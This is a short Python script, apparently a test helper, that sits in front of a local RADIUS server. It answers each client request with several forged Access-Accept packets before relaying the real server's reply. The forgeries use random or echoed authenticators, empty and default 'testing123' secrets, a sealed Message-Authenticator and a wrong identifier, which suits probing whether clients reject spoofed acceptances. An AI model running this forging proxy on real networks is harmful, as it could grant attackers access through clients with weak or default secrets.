#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""_forger.py ADDRESS PORT: on the way to the RADIUS server of this host, and quicker than it: each request is answered
with acceptances that are not the server's, and then given to it, and its answer given back."""
import hashlib
import hmac
import os
import socket
import struct
import sys

ACCEPT = 2
SERVER = ('127.0.0.1', 1812)


def signed(identifier, request, attributes, secret):
    head = struct.pack('!BBH', ACCEPT, identifier, 20 + len(attributes))
    return head + hashlib.md5(head + request + attributes + secret).digest() + attributes


def sealed(identifier, request, secret):
    attributes = b'\x50\x12' + bytes(16)
    head = struct.pack('!BBH', ACCEPT, identifier, 20 + len(attributes))
    return signed(identifier, request, b'\x50\x12' + hmac.digest(secret, head + request + attributes, 'md5'), secret)


def forgeries(packet):
    identifier, request = packet[1], packet[4:20]
    yield struct.pack('!BBH', ACCEPT, identifier, 20) + os.urandom(16)
    yield struct.pack('!BBH', ACCEPT, identifier, 20) + request
    yield signed(identifier, request, b'', b'')
    yield signed(identifier, request, b'\x06\x06\x00\x00\x00\x02', b'testing123')
    yield sealed(identifier, request, b'testing123')
    yield signed((identifier + 1) % 256, request, b'', b'')
    yield packet


front = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
front.bind((sys.argv[1], int(sys.argv[2])))
back = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
back.settimeout(5)
while True:
    asked, user = front.recvfrom(4096)
    for forgery in forgeries(asked):
        front.sendto(forgery, user)
    back.sendto(asked, SERVER)
    try:
        front.sendto(back.recv(4096), user)
    except TimeoutError:
        pass
